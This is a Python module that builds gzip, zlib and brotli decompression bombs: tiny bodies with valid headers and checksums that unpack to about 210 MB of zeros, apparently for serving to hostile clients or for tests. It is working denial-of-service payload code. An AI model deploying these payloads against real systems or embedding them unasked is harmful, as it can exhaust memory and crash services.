"""Small packed bodies that unpack to more than 200 MB of zeros, for hostile rooms. Made in milliseconds."""

from __future__ import annotations

import struct
import zlib
from functools import cache

import brotli  # type: ignore[import-untyped]

BYTES = 210 << 20  # zeros that come out
_BLOCK = 1 << 20
_END = b"\x03\x00"  # an empty last deflate block


def gzip_bomb(begin: bytes) -> bytes:
    """gzip of ``begin`` and then BYTES zeros, one member."""
    body, check = _deflated(begin)
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + body + struct.pack("<II", check, len(begin) + BYTES)


@cache
def zlib_bomb() -> bytes:
    """zlib of BYTES zeros."""
    body, _ = _deflated(b"")
    check, block = 1, bytes(_BLOCK)
    for _ in range(BYTES // _BLOCK):
        check = zlib.adler32(block, check)
    return b"\x78\x9c" + body + struct.pack(">I", check)


@cache
def brotli_bomb() -> bytes:
    """brotli of BYTES zeros."""
    packer, block = brotli.Compressor(quality=1), bytes(_BLOCK)
    parts: list[bytes] = [packer.process(block) for _ in range(BYTES // _BLOCK)]
    return b"".join([*parts, packer.finish()])


@cache
def _deflated(begin: bytes) -> tuple[bytes, int]:
    """Raw deflate of ``begin`` and the zeros, and the CRC-32 of both: one packed block of zeros, many times over."""
    packer, block = zlib.compressobj(9, zlib.DEFLATED, -15), bytes(_BLOCK)
    first = packer.compress(begin) + packer.flush(zlib.Z_FULL_FLUSH)  # after a full flush nothing refers back
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    check, rounds = zlib.crc32(begin), BYTES // _BLOCK
    for _ in range(rounds):
        check = zlib.crc32(block, check)
    return first + again * rounds + _END, check
